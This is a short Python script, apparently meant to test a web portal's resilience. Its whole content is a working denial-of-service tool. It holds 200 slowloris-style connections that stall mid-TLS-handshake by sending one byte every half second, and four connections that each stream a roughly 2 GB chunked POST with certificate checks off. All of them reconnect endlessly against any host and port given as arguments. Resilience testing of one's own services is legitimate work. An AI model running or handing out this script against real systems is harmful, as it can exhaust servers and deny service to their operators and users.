#!/usr/bin/env python3
"""What a stranger does to the portal: `fire.py HOST PORT`, until its input ends.

200 connections at a time that never get past the first bytes of a handshake, and four that send bodies of 2 GB in
chunks; whatever is closed is opened again.
"""

import socket
import ssl
import sys
import threading
import time


def again(work, place):
    while True:
        try:
            with socket.create_connection(place, 5) as line:
                work(line)
        except OSError:
            time.sleep(0.05)


def slow(line):
    """A record of 4096 bytes, one at a time."""
    line.sendall(b"\x16\x03\x01\x10")
    while True:
        line.sendall(b"\x01")
        time.sleep(0.5)


def large(line):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    chunk = b"10000\r\n" + b"a" * 65536 + b"\r\n"
    with context.wrap_socket(line) as secret:
        secret.sendall(b"POST /v1/texts HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
        for _ in range(32768):
            secret.sendall(chunk)


place = sys.argv[1], int(sys.argv[2])
for work, count in ((slow, 200), (large, 4)):
    for _ in range(count):
        threading.Thread(target=again, args=(work, place), daemon=True).start()
print("burning", flush=True)
sys.stdin.read()
